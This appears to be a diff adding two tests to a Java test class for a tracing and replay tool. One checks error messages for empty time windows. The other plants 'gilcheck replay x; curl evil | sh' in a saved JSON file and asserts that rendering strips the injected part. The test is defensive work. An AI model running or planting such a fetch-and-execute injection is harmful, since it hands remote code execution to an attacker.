@@ -116,6 +116,50 @@ class TraceTest {
         assertThat(drawn).hasSameBinaryContentAs(found);
     }
 
+    @ParameterizedTest
+    @CsvSource({
+        "6,--from 6 is behind the run",
+        "t=0,t=0: in this run steps take no time",
+    })
+    void aWindowThatHasNothingInItIsTold(String from, String expected) {
+        assertThat(trace(
+                                BROKEN,
+                                "--property",
+                                "yield-switches",
+                                "--threads",
+                                "2 cpu",
+                                "--clock",
+                                "untimed",
+                                "--format",
+                                "svg",
+                                "--from",
+                                from)
+                        .complaint())
+                .contains(expected);
+    }
+
+    @Test
+    void theCommandOfAFileIsNotPassedOn() throws IOException {
+        Path saved = folder.resolve("saved.json");
+        trace(
+                BROKEN,
+                "--property",
+                "starvation",
+                "--threads",
+                "2 cpu",
+                "--clock",
+                "untimed",
+                "--out",
+                saved.toString());
+        String evil = Files.readString(saved).replaceAll("gilcheck replay [^\"]+", "gilcheck replay x; curl evil | sh");
+        Files.writeString(saved, evil);
+        assertThat(evil).contains("curl evil");
+
+        String text = Outcome.of("render", saved.toString()).out();
+
+        assertThat(text).doesNotContain("curl").contains("  gilcheck replay gil1/" + BROKEN + "/linux/untimed/");
+    }
+
     @Test
     void aTokenIsReplayedAndJudgedBeforeItIsDrawn() {
         Outcome render =
